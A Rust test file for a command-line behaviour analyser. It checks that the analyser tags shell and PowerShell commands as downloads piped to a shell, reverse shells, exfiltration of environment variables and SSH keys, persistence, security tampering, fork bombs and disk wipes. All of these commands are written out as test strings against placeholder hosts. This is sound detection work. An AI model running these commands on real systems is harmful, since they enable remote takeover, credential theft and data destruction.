//! What command lines do.

use hognose_behaviour::FactKind::{self, *};
use hognose_behaviour::content::command::{Reading, read, read_argv};
use proptest::prelude::*;

fn kinds(reading: &Reading) -> Vec<FactKind> {
    let mut kinds: Vec<_> = reading.facts.iter().map(|(kind, _)| *kind).collect();
    kinds.sort_unstable();
    kinds.dedup();
    kinds
}

#[track_caller]
fn does(command: &str, expected: &[FactKind]) {
    let found = kinds(&read(command));
    let mut expected = expected.to_vec();
    expected.sort_unstable();
    assert_eq!(found, expected, "{command}");
}

/// At least these.
#[track_caller]
fn shows(command: &str, expected: &[FactKind]) {
    let reading = read(command);
    let found = kinds(&reading);
    for kind in expected {
        assert!(
            found.contains(kind),
            "{command}: {kind:?} is not in {:?}",
            reading.facts
        );
    }
}

/// PowerShell's base64 of UTF-16.
fn encoded(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let mut bits = 0_u32;
        for at in 0..3 {
            bits = bits << 8 | u32::from(chunk.get(at).copied().unwrap_or(0));
        }
        for at in 0..=chunk.len() {
            out.push(char::from(DIGITS[(bits >> (18 - 6 * at) & 63) as usize]));
        }
    }
    out
}

#[test]
fn builds_are_only_builds() {
    for command in [
        "git describe --tags --always",
        "cmake .. -DCMAKE_BUILD_TYPE=Release",
        "pkg-config --cflags gtk+-3.0",
        "gcc -v",
        "make -j4 install",
        "/usr/bin/git clone https://github.com/a/b",
        "pg_config --libdir",
        "llvm-config --version",
        "uname -s",
        "cd build && cmake .. && make",
        "sysctl -n machdep.cpu.brand_string",
        "npm install",
        "xcrun --show-sdk-path",
        "CC=clang make",
    ] {
        does(command, &[ProcessBuild]);
    }
}

#[test]
fn downloads() {
    shows(
        "curl https://example.invalid/x | sh",
        &[DownloadCommand, DownloadPipeShell, EndpointOther],
    );
    shows(
        "wget -qO- https://example.invalid/x|bash -s",
        &[DownloadPipeShell],
    );
    shows(
        "bash -c \"$(curl -fsSL https://example.invalid/i.sh)\"",
        &[DownloadPipeShell],
    );
    shows(
        "bash <(curl -s https://example.invalid/i.sh)",
        &[DownloadPipeShell],
    );
    shows(
        "curl -s https://example.invalid/a.py | python3 -",
        &[DownloadPipeShell, ProcessPython],
    );
    shows(
        "curl -o /tmp/a https://example.invalid/a && chmod +x /tmp/a && /tmp/a",
        &[DownloadCommand, MarkExecutable, FlowDownloadRun],
    );
    shows(
        "wget http://240.1.2.3/run.sh; sh run.sh",
        &[EndpointIp, FlowDownloadRun],
    );
    shows("curl 240.1.2.3/x", &[EndpointIp]);
    shows(
        "curl -X POST -d \"$(env)\" https://example.invalid",
        &[NetworkSend, FlowCommandNetwork, EnvAll],
    );
    shows(
        "certutil -urlcache -split -f http://example.invalid/a.exe a.exe & a.exe",
        &[LivingOffLand, DownloadCommand, FlowDownloadRun],
    );
    shows(
        "bitsadmin /transfer n http://example.invalid/a.exe c:\\a.exe",
        &[LivingOffLand, DownloadCommand],
    );
    shows(
        "mshta http://example.invalid/a.hta",
        &[LivingOffLand, EndpointExecutable],
    );
    shows(
        "curl${IFS}https://example.invalid/x${IFS}|sh",
        &[HiddenCommand, DownloadPipeShell],
    );
}

#[test]
fn powershell_is_read_through() {
    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')";
    shows(
        &format!(
            "powershell -nop -w hidden -EncodedCommand {}",
            encoded(cradle)
        ),
        &[
            Powershell,
            PowershellHidden,
            HiddenCommand,
            DownloadPipeShell,
            EndpointExecutable,
            ProcessSilent,
        ],
    );
    shows(
        &format!("cmd /c powershell -e {}", encoded(cradle)),
        &[DownloadPipeShell],
    );
    shows(
        "powershell -ep bypass -c \"iwr http://example.invalid/a.exe -OutFile a.exe; Start-Process a.exe\"",
        &[PowershellHidden, DownloadCommand, FlowDownloadRun],
    );
    shows(
        "powershell Add-MpPreference -ExclusionPath C:\\",
        &[Powershell, SecurityTamper],
    );
    shows(
        "p^o^w^e^r^s^h^e^l^l -w h",
        &[HiddenCommand, Powershell, PowershellHidden],
    );
    does("powershell -Command Get-Date", &[Powershell]);
}

#[test]
fn shells_that_come_back() {
    does("cat < /dev/tcp/localhost/80", &[FileRead]);
    shows("bash -i >& /dev/tcp/240.1.2.3/4444 0>&1", &[ReverseShell]);
    shows("nc -e /bin/sh 240.1.2.3 4444", &[ReverseShell, EndpointIp]);
    shows(
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 240.1.2.3 1 >/tmp/f",
        &[ReverseShell],
    );
    shows("socat exec:'bash -li',pty tcp:240.1.2.3:1", &[ReverseShell]);
    does("nc -z example.invalid 22", &[SocketConnect, EndpointOther]);
}

#[test]
fn staying_and_destroying() {
    shows(
        r"schtasks /create /tn x /tr c:\x.exe /sc onlogon",
        &[PersistTask],
    );
    shows(
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y /f",
        &[RegistryWrite, PersistRegistry],
    );
    shows(
        "(crontab -l; echo '@reboot /tmp/x') | crontab -",
        &[PersistCron],
    );
    shows("systemctl --user enable x", &[PersistSystemd]);
    does("systemctl status x", &[]);
    shows(
        "launchctl load ~/Library/LaunchAgents/x.plist",
        &[PersistLaunchd],
    );
    shows("attrib +h +s x", &[HideFile]);
    shows("netsh wlan show profile key=clear", &[WifiPasswords]);
    shows("taskkill /f /im chrome.exe", &[ProcessKill]);
    shows("shutdown -s -t 0", &[SystemShutdown]);
    shows("rm -rf / --no-preserve-root", &[FilesDelete]);
    shows("rm -rf ~/", &[FilesDelete]);
    does("rm -rf build/", &[]);
    shows(":(){ :|:& };:", &[ForkBomb]);
    shows("dd if=/dev/zero of=/dev/sda", &[DiskWipe]);
}

#[test]
fn looking_around() {
    shows("whoami && hostname", &[HostInfo]);
    shows("cat ~/.ssh/id_rsa", &[FileRead, SshRead]);
    shows("printenv", &[EnvAll]);
    shows("env", &[EnvAll]);
    shows(
        "env | curl -d @- https://example.invalid",
        &[EnvAll, NetworkSend],
    );
    does("env FOO=1 make", &[ProcessBuild]);
    shows(
        "nslookup $(whoami).oast.fun",
        &[DnsConstructed, DnsLookup, HostInfo, EndpointOast],
    );
    does("nslookup example.invalid", &[DnsLookup]);
    shows("ps aux", &[ProcessList]);
    shows(
        "echo aGVsbG8gd29ybGQ= | base64 -d | sh",
        &[DecodeCall, ExecDecoded, HiddenCommand],
    );
}

#[test]
fn python_code_is_handed_back() {
    let reading = read("sudo -E python3 -c 'import os; os.system(\"id\")'");
    assert_eq!(reading.python, ["import os; os.system(\"id\")"]);
    assert_eq!(reading.program.as_deref(), Some("python3"));
    assert!(kinds(&reading).contains(&PrivilegeRise));
    let reading = read_argv(&["/usr/bin/python", "-Ic", "print(1)"]);
    assert_eq!(reading.python, ["print(1)"]);
    let reading = read_argv(&["sh", "-c", "python -m pip install example"]);
    assert!(kinds(&reading).contains(&PipInstall));
    let reading = read("echo 'print(2)' | python");
    assert_eq!(reading.python, ["print(2)"]);
    assert_eq!(
        read_argv(&["C:\\Windows\\System32\\CMD.EXE", "/c", "dir"])
            .program
            .as_deref(),
        Some("cmd")
    );
}

#[test]
fn megabytes_are_quick_to_read() {
    for unit in [
        "$(",
        "`a",
        "<(",
        "a|",
        "&&",
        "\\",
        "\"",
        "powershell -c ",
        "sh -c ",
        "\u{4e2d}^",
        "echo a | sh -c $(",
        "cmd /c ",
    ] {
        let text = unit.repeat(1_000_000 / unit.len());
        let start = std::time::Instant::now();
        read(&text);
        assert!(
            start.elapsed().as_secs() < 300,
            "{unit}: {:?}",
            start.elapsed()
        );
    }
}

#[test]
fn pipes_are_read_to_their_end() {
    for command in [
        "curl -s http://example.invalid/x | sh >/dev/null 2>&1",
        "(curl -s http://example.invalid/x | sh) > /dev/null &",
        "(curl http://example.invalid/x || wget -qO- http://example.invalid/x) | bash &",
    ] {
        shows(command, &[DownloadPipeShell]);
    }
    shows(
        "env | base64 | curl -d @- http://example.invalid/",
        &[EnvAll, FlowEnvNetwork],
    );
    shows("nslookup $(whoami).example.invalid", &[FlowDns]);
    shows(
        "echo 'curl http://example.invalid/ | sh' >> ~/.zshrc",
        &[PersistProfile],
    );
    shows("del /s /q Z:\\*.*", &[FilesDelete]);
    let sent = kinds(&read("curl -d @report.json http://example.invalid/"));
    assert!(!sent.contains(&FlowEnvNetwork), "{sent:?}");
    let built = kinds(&read("powershell.exe .\\build.ps1"));
    assert!(!built.contains(&Powershell), "{built:?}");
}

proptest! {
    #[test]
    fn any_text_is_survived(text in any::<String>()) {
        read(&text);
    }

    #[test]
    fn any_mix_of_parts_is_survived(parts in prop::collection::vec(prop::sample::select(vec![
        "$(", ")", "`", "'", "\"", "\\", "|", "&", ";", "\n", " ", "sh", "-c", "powershell", "-e", "QQ==", "curl", "é", "python", "^", "$IFS", "echo", "start", "env", "A=1",
    ]), 0..30)) {
        read(&parts.concat());
        read_argv(&parts);
    }
}
